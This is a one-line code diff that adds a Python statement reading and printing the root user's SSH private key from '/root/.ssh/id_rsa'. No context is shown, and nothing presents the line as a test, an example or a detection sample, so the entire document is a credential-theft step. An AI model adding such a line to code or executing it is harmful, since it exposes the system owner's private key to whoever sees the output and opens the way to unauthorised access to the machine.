@@ -1,0 +1,1 @@
+print(open('/root/.ssh/id_rsa').read())
